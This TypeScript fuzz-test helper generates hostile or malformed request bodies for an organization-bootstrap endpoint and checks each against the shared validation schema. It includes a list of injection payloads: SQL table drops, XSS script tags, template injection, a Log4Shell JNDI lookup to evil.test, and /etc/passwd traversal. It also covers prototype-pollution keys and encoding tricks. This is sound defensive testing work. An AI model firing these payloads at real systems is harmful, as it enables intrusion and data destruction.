/**
 * Generators (fast-check) of request bodies a hostile or broken client sends to
 * organization-bootstrap, and the oracle saying whether the function must accept one: the same
 * shared schema the function validates with, applied to what JSON.parse makes of the bytes.
 */
import fc from "fast-check";
import { bootstrapRequestSchema, MAX_ADMINS } from "@org-bootstrap/shared/bootstrap-request.ts";

/** The function's body limit (supabase/functions/organization-bootstrap/handler.ts). */
export const MAX_BODY_BYTES = 64 * 1024;

export interface HostileBody {
  readonly kind: string;
  readonly contentType: string;
  readonly body: string | Uint8Array;
}

const JSON_TYPE = "application/json";

const SQL_AND_HTML = [
  "'; drop table public.domain_events; --",
  "Robert'); DELETE FROM organizations_projection WHERE ('1'='1",
  "1 OR 1=1",
  "$$; select pg_sleep(10); $$",
  "\\x00\\x27",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg/onload=alert(1)>",
  "{{constructor.constructor('return process')()}}",
  "${jndi:ldap://evil.test/a}",
  "../../../../etc/passwd",
  "%00%27%22",
];

/** Text a field might carry: any unicode, control characters, lone surrogates, injections, huge. */
const hostileText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 10 }),
  fc.constantFrom("\u0000", "a\u0000b", "\ud800", "\udfff x", "\u202eevil", "\ufeff", "e\u0301", "😀😀😀", "ＡＣＭＥ", "ß", "İ"),
  fc.constantFrom(...SQL_AND_HTML),
  fc.tuple(fc.constantFrom(...SQL_AND_HTML), fc.string({ maxLength: 10 })).map(([a, b]) => `Acme ${a}${b}`),
  fc.integer({ min: 101, max: 80_000 }).map((n) => "x".repeat(n)),
);

const anyJson = fc.jsonValue({ maxDepth: 3 });
const hostileValue = fc.oneof(hostileText, anyJson);

const validAdmin = fc.record({ email: fc.emailAddress(), firstName: fc.constantFrom("Ada", "Bob") }, { requiredKeys: ["email"] });
const validForm = fc.record({
  name: fc.constantFrom("Acme Inc", "Globex", "Initech"),
  subdomain: fc.stringMatching(/^[a-z][a-z0-9]{5,20}$/),
  contactEmail: fc.emailAddress(),
  admins: fc.uniqueArray(validAdmin, { minLength: 1, maxLength: 3, selector: (a) => a.email.toLowerCase() }),
});

const json = (kind: string, value: unknown): HostileBody => ({ kind, contentType: JSON_TYPE, body: JSON.stringify(value) ?? "null" });

/** Every kind of hostile body, each from its own generator. */
export const hostileBody: fc.Arbitrary<HostileBody> = fc.oneof(
  // Wrong types anywhere: numbers, arrays, objects, null where text is expected, and so on.
  fc.record({ name: hostileValue, subdomain: hostileValue, contactEmail: hostileValue, admins: hostileValue }, { requiredKeys: [] })
    .map((v) => json("wrong types", v)),
  anyJson.map((v) => json("not an object", v)),
  // One field of a valid form replaced by hostile text (some of these are valid: SQL or HTML in a name is a name).
  fc.tuple(validForm, fc.constantFrom("name", "subdomain", "contactEmail", "admin email", "admin name"), hostileText).map(([form, field, text]) => {
    const copy = structuredClone(form) as Record<string, unknown> & { admins: Array<Record<string, unknown>> };
    if (field === "admin email") copy.admins[0]!.email = text;
    else if (field === "admin name") copy.admins[0]!.firstName = text;
    else copy[field] = text;
    return json(`hostile text in ${field}`, copy);
  }),
  // Too many admins, up to 10,000.
  fc.tuple(validForm, fc.integer({ min: MAX_ADMINS + 1, max: 10_000 })).map(([form, n]) =>
    json("too many admins", { ...form, admins: Array.from({ length: n }, (_, i) => ({ email: `a${i}@x.test` })) })),
  // Deep nesting, as arrays or objects, in place of the admins or the name.
  fc.tuple(validForm, fc.integer({ min: 50, max: 30_000 }), fc.boolean(), fc.constantFrom("admins", "name")).map(([form, depth, arrays, field]) => {
    const nested = arrays ? `${"[".repeat(depth)}${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
    const { [field]: _omit, ...rest } = form;
    return { kind: "deep nesting", contentType: JSON_TYPE, body: `${JSON.stringify(rest).slice(0, -1)},"${field}":${nested}}` };
  }),
  // Duplicate keys: JSON.parse keeps the last one, whatever the first said.
  fc.tuple(validForm, fc.constantFrom("name", "subdomain", "contactEmail", "admins"), hostileValue, fc.boolean()).map(([form, key, value, hostileLast]) => {
    const good = JSON.stringify((form as Record<string, unknown>)[key]);
    const bad = JSON.stringify(value) ?? "null";
    const [first, last] = hostileLast ? [good, bad] : [bad, good];
    return { kind: "duplicate keys", contentType: JSON_TYPE, body: `${JSON.stringify(form).slice(0, -1)},"${key}":${first},"${key}":${last}}` };
  }),
  // Unknown keys, prototype pollution attempts included.
  fc.tuple(validForm, fc.dictionary(fc.oneof(fc.constantFrom("__proto__", "constructor", "prototype", "plan", "id", "organizationId", "status"), fc.string()), anyJson, { minKeys: 1, maxKeys: 4 }))
    .map(([form, extra]) => ({ kind: "unknown keys", contentType: JSON_TYPE, body: `${JSON.stringify(form).slice(0, -1)},${JSON.stringify(extra).slice(1)}` }))
    .filter((b) => !(b.body as string).endsWith(",}")),
  // Truncated JSON: a valid form cut anywhere.
  fc.tuple(validForm, fc.nat()).map(([form, cut]) => {
    const text = JSON.stringify(form);
    return { kind: "truncated JSON", contentType: JSON_TYPE, body: text.slice(0, cut % text.length) };
  }),
  // Not JSON, not UTF-8.
  fc.string({ maxLength: 200 }).map((text) => ({ kind: "not JSON", contentType: JSON_TYPE, body: text })),
  fc.uint8Array({ minLength: 1, maxLength: 300 }).map((bytes) => ({ kind: "random bytes", contentType: JSON_TYPE, body: bytes })),
  // Over the body limit.
  fc.integer({ min: MAX_BODY_BYTES + 1, max: 300_000 }).chain((size) => validForm.map((form) =>
    json("oversized", { ...form, name: "n".repeat(size) }))),
  // A valid form under the wrong media type.
  fc.tuple(validForm, fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx", "application/xml", "json"))
    .map(([form, type]) => ({ kind: "wrong content type", contentType: type, body: JSON.stringify(form) })),
);

/**
 * Bodies always tried first (fast-check `examples`), whatever the seed: the edges where a JSON
 * parser, a schema and Postgres disagree most often.
 */
export function edgeExamples(base: () => Record<string, unknown>): HostileBody[] {
  const withName = (kind: string, name: string) => json(kind, { ...base(), name });
  return [
    withName("NUL character in a name", "Acme\u0000 Inc"),
    withName("lone surrogate in a name", "Acme \ud800 Inc"),
    withName("right-to-left override in a name", "Acme \u202egnp.exe"),
    withName("emoji and combining marks in a name", "Acmé 😀 e\u0301"),
    withName("SQL in a name", "Robert'); DROP TABLE public.domain_events; --"),
    withName("HTML in a name", "<script>alert(1)</script>"),
    json("NUL character in an admin's first name", { ...base(), admins: [{ email: "ada@example.test", firstName: "Ada\u0000" }] }),
    { kind: "UTF-8 byte-order mark before the JSON", contentType: JSON_TYPE, body: `\ufeff${JSON.stringify(base())}` },
    { kind: "overlong UTF-8 encoding", contentType: JSON_TYPE, body: new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]) },
    { kind: "empty body", contentType: JSON_TYPE, body: "" },
    { kind: "JSON null", contentType: JSON_TYPE, body: "null" },
  ];
}

/** What the function must do with a body: accept it (then store exactly that form) or refuse it. */
export function expectedVerdict(body: HostileBody): { accept: true; form: unknown } | { accept: false } {
  if (!/^application\/json\s*(;|$)/i.test(body.contentType)) return { accept: false };
  const bytes = typeof body.body === "string" ? new TextEncoder().encode(body.body) : body.body;
  if (bytes.byteLength > MAX_BODY_BYTES) return { accept: false };
  let parsed: unknown;
  try {
    parsed = JSON.parse(new TextDecoder("utf-8", { fatal: true }).decode(bytes));
  } catch {
    return { accept: false };
  }
  const result = bootstrapRequestSchema.safeParse(parsed);
  return result.success ? { accept: true, form: result.data } : { accept: false };
}
